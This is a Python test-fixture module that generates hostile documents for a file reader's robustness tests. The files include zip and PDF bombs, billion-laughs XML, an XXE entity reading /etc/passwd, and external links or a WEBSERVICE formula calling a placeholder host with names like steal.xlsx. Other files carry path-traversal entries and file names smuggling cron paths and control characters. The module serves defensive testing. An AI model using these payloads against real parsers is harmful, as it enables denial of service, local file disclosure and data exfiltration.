"""Files made to do harm, built by script: what each is, and how a Reader must take it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

from yanku.errors import (
    BrokenSource,
    EmptySource,
    EncryptedSource,
    MismatchedSource,
    ReaderDied,
    SourceError,
    SourceTooLarge,
)
from yanku.testing import hostile_inside, hostile_slides
from yanku.testing.binarybook import binary_book, binary_sheet, far_apart

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_P = "http://schemas.openxmlformats.org/package/2006/relationships"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One hostile file: where it is, and the name it is given with.

    Reading it raises exactly one of ``errors``; where ``read`` is true, reading may also succeed,
    bounded, and must if there are no ``errors``. ``flaw`` is the code of a flaw the document then
    has.
    """

    path: Path
    name: str
    errors: tuple[type[SourceError], ...] = ()
    read: bool = False
    flaw: str = ""


_Build = Callable[[], bytes]


def make_hostile_files(folder: Path) -> tuple[Hostile, ...]:
    """Write every hostile file into a folder, some tens of megabytes, and return them."""
    made = []
    for number, (name, build, errors, read, flaw) in enumerate(_catalogue()):
        path = folder / f"{number:02d}.bin"  # the given name never becomes a path, here neither
        path.write_bytes(build())
        made.append(Hostile(path, name, errors, read, flaw))
    return tuple(made)


def _catalogue() -> Iterator[tuple[str, _Build, tuple[type[SourceError], ...], bool, str]]:
    for name, build, error in (*_REFUSED, *hostile_inside.REFUSED, *hostile_slides.REFUSED):
        yield name, build, (error,), False, ""
    for name, build, flaw in (*_READ, *hostile_inside.READ, *hostile_slides.READ):
        yield name, build, (), True, flaw
    for name, build, errors in (*_EITHER, *hostile_inside.EITHER):
        yield name, build, errors, True, ""


# ── packages ────────────────────────────────────────────────────────────────────────────────────


def _zipped(parts: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts:
            archive.writestr(name, data)
    return out.getvalue()


def _docx(document: bytes, *more: tuple[str, bytes]) -> bytes:
    return _zipped(
        [
            ("[Content_Types].xml", b"<Types>wordprocessingml.document.main+xml</Types>"),
            ("word/document.xml", document),
            *more,
        ]
    )


def _word(body: str, prolog: str = "") -> bytes:
    head = f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:document xmlns:w="{_W}"><w:body>'
    return f"{head}{body}</w:body></w:document>".encode()


def _said(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _links(*links: tuple[str, str, str, bool]) -> bytes:
    inner = "".join(
        f'<Relationship Id="{id_}" Type="{_R}/{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if outside else ''}/>"
        for id_, kind, target, outside in links
    )
    return f'<Relationships xmlns="{_P}">{inner}</Relationships>'.encode()


def _xlsx(sheet: bytes, *more: tuple[str, bytes], links: tuple[str, ...] = ()) -> bytes:
    book = f'<workbook xmlns="{_S}" xmlns:r="{_R}"><sheets><sheet name="S" sheetId="1" r:id="r1"/>'
    extra = [(f"x{n}", each, f"{each}.xml", False) for n, each in enumerate(links)]
    return _zipped(
        [
            ("[Content_Types].xml", b"<Types>spreadsheetml.sheet.main+xml</Types>"),
            ("xl/workbook.xml", f"{book}</sheets></workbook>".encode()),
            (
                "xl/_rels/workbook.xml.rels",
                _links(("r1", "worksheet", "worksheets/sheet1.xml", False), *extra),
            ),
            ("xl/worksheets/sheet1.xml", sheet),
            *more,
        ]
    )


def _sheet(rows: str, after: str = "") -> bytes:
    return f'<worksheet xmlns="{_S}"><sheetData>{rows}</sheetData>{after}</worksheet>'.encode()


_CELL = '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row>'


def _zip_bomb_docx() -> bytes:
    return _docx(_word(_said(" " * (128 * 1024**2))))


def _zip_bomb_xlsx() -> bytes:
    return _xlsx(_sheet(_CELL + " " * (128 * 1024**2)))


def _overlapping() -> bytes:
    """Every entry of the directory points at the same bytes, so that a little unpacks to much."""
    kernel = b"\0" * 4_000_000
    data = bytearray(_docx(_word(_said("x")), *[(f"word/{n:04d}", kernel) for n in range(40)]))
    first = data.find(b"word/0000") - 30
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        if data[at + 46 : at + 51] == b"word/" and data[at + 51 : at + 55].isdigit():
            data[at + 42 : at + 46] = struct.pack("<I", first)
            data[at + 20 : at + 24] = struct.pack("<I", 4_000_000)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _lying_size() -> bytes:
    """Return a part that inflates to many millions of bytes and claims a hundred."""
    data = bytearray(_docx(_word(_said("y" * 20_000_000))))
    at = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)
    data[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(data)


def _many_rows() -> bytes:
    rows = (
        f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="B{n}"><v>{n}</v></c></row>'
        for n in range(1, 1_048_577)
    )
    return _xlsx(_sheet("".join(rows)))


def _empty_rows() -> bytes:
    rows = "".join(f'<row r="{n}" ht="15"/>' for n in range(2, 1_048_577))
    return _xlsx(_sheet(_CELL + rows))


def _laughs(root: str) -> str:
    lines = ['<!ENTITY a0 "ha">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE {root} [{''.join(lines)}]>"


def _laughing_strings() -> bytes:
    strings = f'{_laughs("sst")}<sst xmlns="{_S}"><si><t>&a9;</t></si></sst>'.encode()
    cell = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return _xlsx(_sheet(cell), ("xl/sharedStrings.xml", strings), links=("sharedStrings",))


def _external_links() -> bytes:
    cells = _CELL.replace("<v>1</v>", "<f>[1]S!$A$1</f><v>1</v>", 1)
    target = _links(("r1", "externalLinkPath", "http://198.51.100.7/steal.xlsx", True))
    return _xlsx(
        _sheet(cells),
        ("xl/externalLink.xml", f'<externalLink xmlns="{_S}"/>'.encode()),
        ("xl/_rels/externalLink.xml.rels", target),
        links=("externalLink",),
    )


def _outside_pictures() -> bytes:
    links = _links(
        ("r1", "image", "http://198.51.100.7/pixel.png", True),
        ("r2", "attachedTemplate", "file://198.51.100.7/share/evil.dotm", True),
    )
    return _docx(_word(_said("text")), ("word/_rels/document.xml.rels", links))


def _many_parts() -> bytes:
    return _docx(_word(_said("x")), *((f"word/media/{n}", b"") for n in range(25_000)))


def _repeated_ods() -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    content = (
        f'<o:document-content xmlns:o="{office}" xmlns:t="{table}" xmlns:x="{text}"><o:body>'
        '<o:spreadsheet><t:table t:name="S"><t:table-row t:number-rows-repeated="1048576">'
        '<t:table-cell t:number-columns-repeated="16384"><x:p>1</x:p></t:table-cell>'
        "</t:table-row></t:table></o:spreadsheet></o:body></o:document-content>"
    )
    mimetype = b"application/vnd.oasis.opendocument.spreadsheet"
    return _zipped([("mimetype", mimetype), ("content.xml", content.encode())])


def _ole(stream: str) -> bytes:
    """Return an OLE file with nothing but a directory that names one stream."""
    name = stream.encode("utf-16-le") + b"\0\0"
    entry = name.ljust(64, b"\0") + struct.pack("<HBB", len(name), 2, 1) + b"\xff" * 12
    return _OLE.ljust(512, b"\0") + entry.ljust(128, b"\0") * 4


# ── PDF ─────────────────────────────────────────────────────────────────────────────────────────


def _pdf(*objects: bytes) -> bytes:
    """Return a PDF of these objects, numbered from 1; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\n" % (len(objects) + 1)
    return bytes(out + b"startxref\n%d\n%%%%EOF" % start)


_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"


def _pdf_of_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>"
    pages = b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids)
    return _pdf(_CATALOGUE, pages, *[page] * count)


def _pdf_with_content(content: bytes, box: bytes = b"0 0 300 300") -> bytes:
    packed = zlib.compress(content, 9)
    return _pdf(
        _CATALOGUE,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R>>" % box,
        b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed),
    )


def _locked_pdf() -> bytes:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    lock = StandardEncryption("a password nobody knows", ownerPassword="another", strength=128)
    canvas = Canvas(out, encrypt=lock)
    canvas.drawString(72, 720, "secret")
    canvas.save()
    return out.getvalue()


def _circular_pdf() -> bytes:
    pages = b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R 3 0 R]/Parent 2 0 R>>"
    return _pdf(_CATALOGUE, pages, b"<</Type/Pages/Count 3/Kids[2 0 R]/Parent 3 0 R>>")


# ── pictures ────────────────────────────────────────────────────────────────────────────────────


def _png(width: int, height: int, data: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    packed = zlib.compress(data, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )


def _jpeg(side: int) -> bytes:
    frame = struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00"
    return b"\xff\xd8\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame + b"\xff\xd9"


def _tiff(side: int, following: int = 0) -> bytes:
    tags = [(256, 4, side), (257, 4, side), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8),
            (277, 3, 1), (278, 4, side), (279, 4, 100)]  # fmt: skip
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return struct.pack("<2sHIH", b"II", 42, 8, len(tags)) + entries + struct.pack("<I", following)


# ── the catalogue ───────────────────────────────────────────────────────────────────────────────

_TABLE = "项目,2024年,2023年\n营业收入（万元）,100.5,90\n净利润（万元）,10,9\n".encode()
_DEEP = "<w:sdt><w:sdtContent>" * 5_000 + "</w:sdtContent></w:sdt>" * 5_000
_XXE = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'

_REFUSED: tuple[tuple[str, _Build, type[SourceError]], ...] = (
    ("empty.pdf", lambda: b"", EmptySource),
    ("empty.csv", lambda: b"", EmptySource),
    ("bomb.docx", _zip_bomb_docx, SourceTooLarge),
    ("bomb.xlsx", _zip_bomb_xlsx, SourceTooLarge),
    ("nested.docx", lambda: _zipped([("a.zip", _zipped([("b.zip", b"\0")]))]), MismatchedSource),
    ("overlapping.docx", _overlapping, BrokenSource),
    ("lying-size.docx", _lying_size, BrokenSource),
    ("many-parts.docx", _many_parts, SourceTooLarge),
    ("rows.xlsx", _many_rows, SourceTooLarge),
    ("repeated.ods", _repeated_ods, SourceTooLarge),
    ("xxe.docx", lambda: _docx(_word(_said("&x;"), _XXE)), BrokenSource),
    ("laughs.docx", lambda: _docx(_word(_said("&a9;"), _laughs("w:document"))), BrokenSource),
    ("laughs.xlsx", _laughing_strings, BrokenSource),
    ("deep.docx", lambda: _docx(_word(_DEEP)), BrokenSource),
    ("truncated.docx", lambda: _docx(_word(_said("x" * 10_000)))[:-200], BrokenSource),
    ("no-body.docx", lambda: _docx(b"<a/>"), BrokenSource),
    ("lost-string.xlsx", lambda: _xlsx(_sheet('<row r="1"><c r="A1" t="s"><v>7</v></c></row>')),
     BrokenSource),
    ("far-column.xlsx", lambda: _xlsx(_sheet('<row r="1"><c r="ZZZ1"><v>7</v></c></row>')),
     BrokenSource),
    ("locked.xlsx", lambda: _ole("EncryptedPackage"), EncryptedSource),
    ("torn.xls", lambda: _ole("Workbook"), BrokenSource),
    ("torn.xlsb", lambda: binary_book(binary_sheet()[:60]), BrokenSource),
    ("corners.xlsb", lambda: binary_book(far_apart()), SourceTooLarge),
    ("torn.doc", lambda: _ole("WordDocument"), BrokenSource),
    ("page.xls", lambda: b"<html><table><tr><td>1</td></tr></table></html>", MismatchedSource),
    ("pages.pdf", lambda: _pdf_of_pages(10_000), SourceTooLarge),
    ("locked.pdf", _locked_pdf, EncryptedSource),
    ("stub.pdf", lambda: b"%PDF-1.7\n1 0 obj\n<</Type/Cat", BrokenSource),
    ("really.docx", lambda: _pdf_of_pages(1), MismatchedSource),
    ("really.pdf", lambda: b"MZ\x90\0" + bytes(range(256)) * 40, MismatchedSource),
    ("really.png", lambda: _TABLE, MismatchedSource),
    ("really.csv", lambda: b"\x1f\x8b\x08\0" + bytes(range(256)), MismatchedSource),
    ("noise.txt", lambda: bytes(range(256)) * 100, MismatchedSource),
    ("wide.png", lambda: _png(60_000, 60_000, b"\0" * 1000), SourceTooLarge),
    ("wide.jpg", lambda: _jpeg(65_500), SourceTooLarge),
    ("wide.tiff", lambda: _tiff(100_000), SourceTooLarge),
    ("torn.png", lambda: _png(1000, 1000, b"\0" * 500_000)[:200], BrokenSource),
    ("line.csv", lambda: b"1," * 8_000_000, SourceTooLarge),
    ("quote.csv", lambda: b'a,"' + b"x\n" * 4_000_000, SourceTooLarge),
    ("cells.csv", lambda: (b"1," * 999 + b"1\n") * 2_100, SourceTooLarge),
)  # fmt: skip

_READ: tuple[tuple[str, _Build, str], ...] = (
    ("links.xlsx", _external_links, "external_links"),
    ("outside.docx", _outside_pictures, "external_links"),
    ("macros.xlsm", lambda: _xlsx(_sheet(_CELL), ("xl/vbaProject.bin", _OLE)), "macros"),
    ("embedded.xlsx", lambda: _xlsx(_sheet(_CELL), ("xl/embeddings/a.zip", _zip_bomb_docx()[:900])),
     "embedded_files"),
    ("empty-rows.xlsx", _empty_rows, ""),
    ("corners.xlsx", lambda: _xlsx(_sheet(
        _CELL + '<row r="1048576"><c r="XFD1048576"><v>3</v></c></row>')), ""),
    ("merged.xlsx", lambda: _xlsx(_sheet(
        _CELL, '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')), ""),
    ("number.xlsx", lambda: _xlsx(_sheet(
        '<row r="1"><c r="A1"><v>1E+999999999</v></c></row>')), ""),
    ("service.xlsx", lambda: _xlsx(_sheet(
        '<row r="1"><c r="A1"><f>WEBSERVICE("http://198.51.100.7/")</f></c></row>')),
     "formula_without_value"),
    ("climbing.docx", lambda: _docx(_word(_said("x")), ("../../../../tmp/climbed", b"x")), ""),
    ("../../../etc/cron.d/evil\r\n\x1b[31m.csv", lambda: _TABLE, ""),
    ("C:\\Windows\\system32\\\u202evsc.csv", lambda: _TABLE, ""),
    ("broken-bytes.txt", lambda: ("营业收入与净利润的变动原因" * 9).encode() + b"\xff\xc3\x28\n",
     "undecodable_bytes"),
    ("brackets.md", lambda: b"[" * 60_000 + b"\n\n" + b"*" * 60_000 + b"\n\n" + b"> " * 30_000, ""),
    ("commas.csv", lambda: b"1" + b",000" * 200_000 + b"\n", ""),
)  # fmt: skip

_EITHER: tuple[tuple[str, _Build, tuple[type[SourceError], ...]], ...] = (
    # A PDF reader may mend these; what it may not do is hang, grow, or take others with it.
    ("circular.pdf", _circular_pdf, (BrokenSource, SourceTooLarge)),
    ("truncated.pdf", lambda: _pdf_of_pages(40)[:2500], (BrokenSource,)),
    ("wide.pdf", lambda: _pdf_with_content(b"", b"0 0 9e9 9e9"), (BrokenSource, SourceTooLarge)),
    ("bomb.pdf", lambda: _pdf_with_content(b"0 0 m " * 8_000_000),
     (BrokenSource, SourceTooLarge, ReaderDied)),
    ("saves.pdf", lambda: _pdf_with_content(b"q " * 2_000_000), (BrokenSource, ReaderDied)),
    ("circular.tiff", lambda: _tiff(8, following=8), (BrokenSource, SourceTooLarge)),
)  # fmt: skip
